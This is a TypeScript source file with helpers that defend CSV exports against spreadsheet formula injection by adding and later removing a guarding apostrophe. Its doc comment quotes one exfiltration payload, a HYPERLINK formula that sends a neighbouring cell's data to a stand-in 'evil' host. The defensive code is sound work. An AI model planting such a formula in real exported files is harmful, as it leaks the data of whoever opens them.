/**
 * A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
 * before one) as a formula: a name a source hands over, `=HYPERLINK("https://evil/?"&A2)`,
 * would run when someone opens the people file in Excel (OWASP, "CSV Injection"). A leading
 * apostrophe is the spreadsheet's own mark for "this cell is text": Excel, LibreOffice and
 * Google Sheets show the cell without it, and drop it when they save a CSV.
 *
 * So a CSV the import writes starts such a cell with an apostrophe, and the sync's CSV reader
 * drops an apostrophe that stands before one of these characters: the value read is the value
 * written, and a file a spreadsheet saved again reads the same.
 */
// Apostrophes already before the character are the value's own: one more guards it, and only that one is dropped.
const FORMULA_START = /^'*[=+\-@\t\r]/;
const GUARDED = /^''*[=+\-@\t\r]/;

/** The cell as a CSV writer puts it: guarded when a spreadsheet would run it. */
export const guardFormula = (cell: string): string => (FORMULA_START.test(cell) ? `'${cell}` : cell);

/** The cell as a CSV reader takes it: the guard of a formula-like cell dropped. */
export const unguardFormula = (cell: string): string => (GUARDED.test(cell) ? cell.slice(1) : cell);
